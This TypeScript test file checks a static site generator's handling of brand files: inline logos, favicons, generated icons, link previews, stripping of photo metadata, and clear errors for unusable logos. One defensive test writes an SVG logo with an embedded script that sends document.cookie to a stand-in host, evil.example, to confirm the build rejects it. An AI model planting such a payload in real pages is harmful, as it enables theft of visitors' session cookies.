import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.ts';
import { buildInto } from '../helpers/built-site.ts';
import { captureOutput } from '../helpers/capture-output.ts';
import { copyFixture, editFile, removeTemporaryFolders, tempDir } from '../helpers/fixture-site.ts';
import { makePhoto, PRIVATE } from '../helpers/photos.ts';

afterAll(removeTemporaryFolders);

const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex');

/** Points site.json's brand settings at other files (undefined removes the setting). */
async function setBrand(dir: string, brand: { logo?: string; logoLight?: string | undefined; favicon?: string | undefined }): Promise<void> {
  const file = path.join(dir, 'site.json');
  const settings = JSON.parse(await readFile(file, 'utf8')) as Record<string, unknown>;
  for (const [key, value] of Object.entries(brand)) {
    if (value === undefined) delete settings[key];
    else settings[key] = value;
  }
  await writeFile(file, JSON.stringify(settings, null, 2));
}

/** The header's logo, as the page names it: a data: URL of the drawing, or a file of the site. */
function headerLogo(html: string): string {
  return /<a class="site-header__logo"[^>]*>(?:<picture>.*?)?<img src="([^"]+)"/s.exec(html)?.[1] ?? '';
}

/** What `site check` says of the folder, or `site build` for what only encoding the pictures finds. */
async function buildProblems(dir: string, command: 'check' | 'build' = 'check'): Promise<{ code: number; err: string }> {
  const output = captureOutput();
  const out = path.join(await tempDir('brand-dist-'), 'dist');
  const argv = command === 'check' ? ['check', '--content', dir] : ['build', '--content', dir, '--out', out, '--no-search', '--quiet'];
  const code = await main(argv, output.io);
  return { code, err: output.err.join('\n') };
}

describe("the owner's brand, named in site.json", () => {
  it('shows the logo drawing inside the header, the light logo in the footer, and makes every icon from the favicon', async () => {
    const dir = await copyFixture('minimal');
    const built = await buildInto(dir, { search: false });
    const about = await built.read('about/index.html');
    const logo = await readFile(path.join(dir, 'images/brand/logo.svg'), 'utf8');
    // The drawing itself, inside the page: not a file of public/, not another business's.
    const inline = decodeURIComponent(headerLogo(about).replace(/^data:image\/svg\+xml,/, ''));
    expect(inline).toBe(logo.trim().replace(/\s+/g, ' '));
    expect(about).toMatch(
      /<img src="\/images\/brand\/logo-light\.svg" alt="" width="180" height="42" loading="lazy" decoding="async" class="site-footer__logo"\/>/,
    );
    expect(about).toContain('<link rel="icon" href="/favicon.ico" sizes="32x32"/>');
    expect(about).toContain('<link rel="icon" href="/favicon.svg" type="image/svg+xml"/>');
    expect(about).toContain('<link rel="apple-touch-icon" href="/apple-touch-icon.png"/>');
    expect(await built.read('favicon.svg')).toBe(await readFile(path.join(dir, 'images/brand/favicon.svg'), 'utf8'));

    const ico = await readFile(path.join(built.out, 'favicon.ico'));
    // An icon directory (reserved 0, type 1) of three images: 16, 32 and 48 pixels.
    expect([ico.readUInt16LE(0), ico.readUInt16LE(2), ico.readUInt16LE(4)]).toEqual([0, 1, 3]);
    expect([0, 1, 2].map((index) => ico.readUInt8(6 + index * 16))).toEqual([16, 32, 48]);
    const apple = await sharp(path.join(built.out, 'apple-touch-icon.png')).stats();
    expect(apple.isOpaque).toBe(true);
    expect(await sharp(path.join(built.out, 'apple-touch-icon.png')).metadata()).toMatchObject({ width: 180, height: 180, format: 'png' });

    const manifest = JSON.parse(await built.read('site.webmanifest')) as { icons: { src: string; sizes: string; type: string }[] };
    expect(manifest.icons.map(({ sizes, type }) => `${sizes} ${type}`)).toEqual(['192x192 image/png', '512x512 image/png', 'any image/svg+xml']);
    for (const icon of manifest.icons.filter((entry) => entry.type === 'image/png')) {
      const size = Number(icon.sizes.split('x')[0]);
      expect(await sharp(path.join(built.out, icon.src)).metadata()).toMatchObject({ width: size, height: size });
    }
  });

  it('makes the default link preview from the logo when site.json names no share picture', async () => {
    const dir = await copyFixture('minimal');
    const built = await buildInto(dir, { search: false });
    const contact = await built.read('contact/index.html');
    const image = /<meta property="og:image" content="https:\/\/[^/]+(\/assets\/brand\/link-preview\.\w+\.jpg)"\/>/.exec(contact)?.[1];
    expect(image).toBeDefined();
    expect(contact).toContain('<meta property="og:image:width" content="1200"/>');
    expect(await sharp(path.join(built.out, image ?? '')).metadata()).toMatchObject({ width: 1200, height: 630, format: 'jpeg' });
  });

  it('takes a PNG logo through the image pipeline: responsive sizes, nothing of its metadata, and every icon made from it', async () => {
    const dir = await copyFixture('minimal');
    await makePhoto(path.join(dir, 'images/brand/acme.png'), { width: 1200, height: 400, format: 'png', transparent: true, private: true, grain: 0 });
    await setBrand(dir, { logo: 'images/brand/acme.png', logoLight: undefined, favicon: undefined });
    const built = await buildInto(dir, { search: false });
    const about = await built.read('about/index.html');
    const header = /<a class="site-header__logo".*?<\/a>/s.exec(about)?.[0] ?? '';
    expect(header).toMatch(/<source type="image\/avif" srcSet="\/images\/brand\/acme-480\.\w+\.avif 480w, /);
    // Its width follows from its height in the header (47 px) and its own proportions (3:1).
    expect(header).toMatch(/<img src="\/images\/brand\/acme-1200\.\w+\.png" alt="Thread &amp; Tailor home" width="141" height="47" loading="eager"/);
    // No light logo: the footer shows the logo, on a white plate.
    expect(about).toMatch(
      /<img src="\/images\/brand\/acme-1200\.\w+\.png" alt="" width="126" height="42" loading="lazy" decoding="async" class="site-footer__logo site-footer__logo--plate"\/>/,
    );
    // No favicon: the icons are made from the logo, and there is no SVG icon to name.
    expect(about).not.toContain('favicon.svg');
    expect((await built.files()).some((file) => file === 'favicon.svg' || file.endsWith('acme.png'))).toBe(false);
    expect(await sharp(path.join(built.out, 'apple-touch-icon.png')).metadata()).toMatchObject({ width: 180, height: 180 });
    for (const file of (await built.files()).filter((name) => /acme|brand\/|favicon|apple-touch/.test(name))) {
      const bytes = await readFile(path.join(built.out, file));
      for (const secret of [PRIVATE.artist, PRIVATE.make, PRIVATE.xmp]) expect(bytes.includes(secret), `${file} holds ${secret}`).toBe(false);
    }
  });

  it('a new logo file under the same name rebuilds the header of every page, with the build cache', async () => {
    const dir = await copyFixture('minimal');
    const out = path.join(await tempDir('brand-dist-'), 'dist');
    const build = async () => {
      const output = captureOutput();
      expect(await main(['build', '--content', dir, '--out', out, '--no-search', '--quiet'], output.io)).toBe(0);
      return { home: await readFile(path.join(out, 'index.html'), 'utf8'), about: await readFile(path.join(out, 'about/index.html'), 'utf8') };
    };
    const first = await build();
    await editFile(dir, 'images/brand/logo.svg', (text) => text.replace('#0B3279', '#7A1F2B'));
    const second = await build();
    for (const page of ['home', 'about'] as const) {
      expect(headerLogo(second[page])).not.toBe(headerLogo(first[page]));
      expect(headerLogo(second[page])).toContain('%237A1F2B');
    }
  });
});

describe('a logo that cannot be used gets one located sentence', () => {
  it('a PNG narrower than 512 pixels', async () => {
    const dir = await copyFixture('minimal');
    await makePhoto(path.join(dir, 'images/small-logo.png'), { width: 300, height: 90, format: 'png' });
    await setBrand(dir, { logo: 'images/small-logo.png' });
    const { code, err } = await buildProblems(dir);
    expect(code).toBe(1);
    expect(err).toContain(
      'site.json, field "logo": the logo "images/small-logo.png" is 300 pixels wide, and would look blurred on phones and as the home-screen icon: use a copy of at least 512 pixels wide',
    );
  });

  it('a favicon that is not 512 pixels square at least', async () => {
    const dir = await copyFixture('minimal');
    await makePhoto(path.join(dir, 'images/icon.png'), { width: 800, height: 400, format: 'png' });
    await setBrand(dir, { favicon: 'images/icon.png' });
    const { code, err } = await buildProblems(dir);
    expect(code).toBe(1);
    expect(err).toContain('site.json, field "favicon": the favicon "images/icon.png" is 800 × 400 pixels');
  });

  it('a broken file', async () => {
    const dir = await copyFixture('minimal');
    await makePhoto(path.join(dir, 'images/logo.png'), { width: 1000, height: 300, format: 'png' });
    const whole = await readFile(path.join(dir, 'images/logo.png'));
    await writeFile(path.join(dir, 'images/logo.png'), whole.subarray(0, 60));
    await setBrand(dir, { logo: 'images/logo.png' });
    const { code, err } = await buildProblems(dir, 'build');
    expect(code).toBe(1);
    expect(err).toMatch(/site\.json, field "logo": the image "images\/logo\.png" is (damaged|not a picture the build can read)/);
    expect(err).not.toMatch(/\n\s+at /);
  });

  it('a drawing with a script, or with a font from another site', async () => {
    const dir = await copyFixture('minimal');
    await writeFile(
      path.join(dir, 'images/brand/logo.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg" width="240" height="56"><script>fetch("https://evil.example/?"+document.cookie)</script><text y="40">Acme</text></svg>',
    );
    await writeFile(
      path.join(dir, 'images/brand/favicon.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><style>@font-face{font-family:A;src:url(https://fonts.example/a.woff2)}</style><text y="40">A</text></svg>',
    );
    const { code, err } = await buildProblems(dir);
    expect(code).toBe(1);
    expect(err).toContain('site.json, field "logo": the logo "images/brand/logo.svg" holds a script (<script>), which a logo must not');
    expect(err).toContain(
      'site.json, field "favicon": the favicon "images/brand/favicon.svg" holds a reference to a file outside it (https://fonts.example/a.woff2)',
    );
  });

  it('a WebP or GIF logo, asked for as PNG', async () => {
    const dir = await copyFixture('minimal');
    await sharp({ create: { width: 900, height: 300, channels: 3, background: '#0B3279' } })
      .webp()
      .toFile(path.join(dir, 'images/logo.webp'));
    await setBrand(dir, { logo: 'images/logo.webp' });
    const { code, err } = await buildProblems(dir);
    expect(code).toBe(1);
    expect(err).toContain('site.json, field "logo": the logo "images/logo.webp" is a WEBP picture; save it as PNG (or SVG) and write that name here');
  });

  it('no logo named at all', async () => {
    const dir = await copyFixture('minimal');
    await setBrand(dir, { logo: undefined });
    const { code, err } = await buildProblems(dir);
    expect(code).toBe(1);
    expect(err).toMatch(/site\.json, field "logo": /);
  });
});

describe('the brand files', () => {
  it('are the same bytes for the same pictures, build after build (cached by their hash)', async () => {
    const dir = await copyFixture('minimal');
    const first = await buildInto(dir, { search: false });
    const second = await buildInto(dir, { search: false });
    for (const file of ['favicon.ico', 'apple-touch-icon.png']) {
      expect(sha256(await readFile(path.join(second.out, file)))).toBe(sha256(await readFile(path.join(first.out, file))));
    }
  });
});
